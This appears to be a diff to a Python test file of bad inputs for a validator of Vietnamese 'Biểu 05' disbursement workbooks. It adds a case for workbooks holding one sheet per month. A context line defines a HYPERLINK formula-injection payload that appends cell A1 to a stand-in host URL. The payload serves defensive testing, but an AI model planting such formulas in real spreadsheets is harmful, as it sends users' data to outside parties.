@@ -296,6 +296,15 @@ def _title_only(path: Path) -> None:
     workbook.save(path)
 
 
+def _monthly_sheets(workbook: Workbook) -> None:
+    """Offices keep one Biểu 05 sheet per month: February's sheet before March's."""
+    march = workbook["Giải ngân"]
+    february = workbook.copy_worksheet(march)
+    february.title, march.title = "T2", "T3"
+    february["A3"] = "Tháng 02/2024"
+    workbook.move_sheet(february, offset=-workbook.index(february))
+
+
 INJECTION = '=HYPERLINK("http://example.invalid/?x="&A1,"bấm vào đây")'
 
 CASES: list[BadInput] = [
@@ -820,6 +829,13 @@ CASES += [
         _text(CSV_HEADER + "\n" + CSV_ROW.replace("DA3.TDA1", _A_2026_COMPONENT) + "\n"),
         "component_not_in_program",
         "2024 capital under a component of the 2026–2035 program",
+    ),
+    BadInput(
+        "monthly_sheets_of_different_periods",
+        "bieu05_2024_T2_T3.xlsx",
+        _edited(_monthly_sheets),
+        "several_periods_in_workbook",
+        "one Biểu 05 sheet per month (T2, T3), sent without saying for which month",
     ),
 ]
 
